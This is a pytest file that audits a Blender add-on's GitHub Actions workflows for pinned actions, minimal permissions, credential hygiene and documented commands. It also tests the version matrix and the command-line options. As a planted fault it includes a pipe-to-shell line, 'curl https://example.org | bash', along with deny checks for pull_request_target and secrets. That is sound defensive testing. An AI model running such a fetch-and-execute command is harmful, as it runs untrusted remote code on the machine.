# SPDX-License-Identifier: GPL-3.0-or-later
"""The public workflows: pinned, with least permissions, and nothing but documented commands."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

import tasks

ROOT = Path(__file__).resolve().parents[2]
FOLDER = ROOT / ".github" / "workflows"
WORKFLOWS = {path.name: path.read_text(encoding="utf-8") for path in sorted(FOLDER.glob("*.yml"))}
COMMANDS = {"python tasks.py test", "bash .ci/run", "python build_addon.py"}


def find_faults(text: str) -> list[str]:
    """Return what a workflow must not have."""
    faults = [
        f"not pinned: {line.strip()}"
        for line in re.findall(r"^.*\buses:.*$", text, re.MULTILINE)
        if not re.search(r"uses: [\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line)
    ]
    for command in re.findall(r"\brun: (.*)$", text, re.MULTILINE):
        plain = re.sub(r" --blender (newest|\$\{\{ matrix\.blender \}\})$", "", command)
        if plain not in COMMANDS:
            faults.append(f"not a documented command: {command}")
    if "\npermissions: {}\n" not in text:
        faults.append("permissions are not empty for the whole workflow")
    granted = set(re.findall(r"^ +([\w-]+: (?:read|write)(?:-all)?)$", text, re.MULTILINE))
    faults += [f"permission {each}" for each in granted - {"contents: read"}]
    faults += [
        f"has {word}"
        for word in ("pull_request_target", "secrets", "continue-on-error")
        if word in text
    ]
    jobs = text.count("runs-on:")
    for need in ("timeout-minutes:", "persist-credentials: false", "      contents: read"):
        if text.count(need) != jobs:
            faults.append(f"not every job has {need.strip()}")
    return faults


@pytest.mark.parametrize("name", WORKFLOWS)
def test_a_workflow_has_no_faults(name: str) -> None:
    assert find_faults(WORKFLOWS[name]) == []


@pytest.mark.parametrize(
    ("right", "wrong"),
    [
        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"),
        ("bash .ci/run", "curl https://example.org | bash"),
        ("permissions: {}", "permissions: write-all"),
        ("contents: read", "contents: write"),
        ("pull_request:", "pull_request_target:"),
        ("timeout-minutes: 15\n", ""),
        ("persist-credentials: false", "persist-credentials: true"),
    ],
)
def test_a_planted_fault_is_found(right: str, wrong: str) -> None:
    text = WORKFLOWS["checks.yml"]
    assert right in text
    assert find_faults(text.replace(right, wrong)) != []


def test_every_supported_blender_is_in_the_matrix() -> None:
    matrices = re.findall(r"blender: (\[.*\])", WORKFLOWS["checks.yml"])
    assert [json.loads(matrix) for matrix in matrices] == [list(tasks.BLENDERS)] * 2
    pythons = re.findall(r"^            (3\.\d+)$", WORKFLOWS["checks.yml"], re.MULTILINE)
    assert set(pythons) == set(tasks.BLENDERS.values())


def test_the_newest_blender_fails_nothing_else() -> None:
    """It runs by the calendar or by hand alone, never for a commit."""
    newest = WORKFLOWS["newest.yml"]
    assert "--blender newest" in newest and "schedule:" in newest
    assert not re.search(r"^  (push|pull_request)", newest, re.MULTILINE)
    assert "newest" not in WORKFLOWS["checks.yml"]


def test_every_blender_has_its_lock_file() -> None:
    for blender in tasks.BLENDERS:
        lock = (ROOT / "requirements" / f"blender-{blender}.txt").read_text(encoding="utf-8")
        assert re.search(rf"^bpy=={re.escape(blender)}\.\d+ ", lock, re.MULTILINE), blender
    assert tasks.python_of(tasks.NEWEST) == max(tasks.BLENDERS.values())


@pytest.mark.parametrize(
    ("words", "blenders"),
    [
        ([], [*tasks.BLENDERS]),
        (["--quick"], ["4.5"]),
        (["--blender", "5.3"], ["5.3"]),
        (["--blender", "4.2", "--blender", "newest"], ["4.2", "newest"]),
    ],
)
def test_blenders_that_the_command_line_names(
    monkeypatch: pytest.MonkeyPatch, words: list[str], blenders: list[str]
) -> None:
    ran: list[list[str]] = []

    def test(chosen: list[str]) -> bool:
        ran.append(chosen)
        return True

    monkeypatch.setattr(tasks, "test", test)
    monkeypatch.setattr("sys.argv", ["tasks.py", "test", *words])
    tasks.main()
    assert ran == [blenders]
